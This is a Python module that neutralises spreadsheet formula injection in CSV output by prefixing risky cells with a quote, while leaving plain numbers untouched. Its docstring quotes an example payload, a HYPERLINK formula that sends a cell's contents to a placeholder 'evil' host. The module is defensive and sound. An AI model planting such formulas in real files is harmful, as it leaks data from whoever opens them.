"""Cells a spreadsheet program will not run: every CSV the service writes goes through here.

A cell beginning with `=`, `+`, `-`, `@`, a tab, a carriage return (or a NUL) is taken as a
formula by Excel, LibreOffice and Google Sheets when the file is opened: a statement line or an
order id such as `=HYPERLINK("http://evil/?"&A1,"open")` would run on the desk of whoever opens
the report. As OWASP's "CSV Injection" page recommends, such a cell is written with a single
quote in front, which the spreadsheet takes as "this is text" and does not show; the writer's
RFC 4180 quoting then keeps separators and quotes inside the cell. A plain number (`-15.00`,
`+3`) is no formula and stays as it is, so amounts still sum as numbers.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?", re.ASCII)


def spreadsheet_safe(text: str) -> str:
    """The cell as a spreadsheet should show it: text, never a formula."""
    if not text.startswith(_FORMULA_START) or _PLAIN_NUMBER.fullmatch(text):
        return text
    return "'" + text
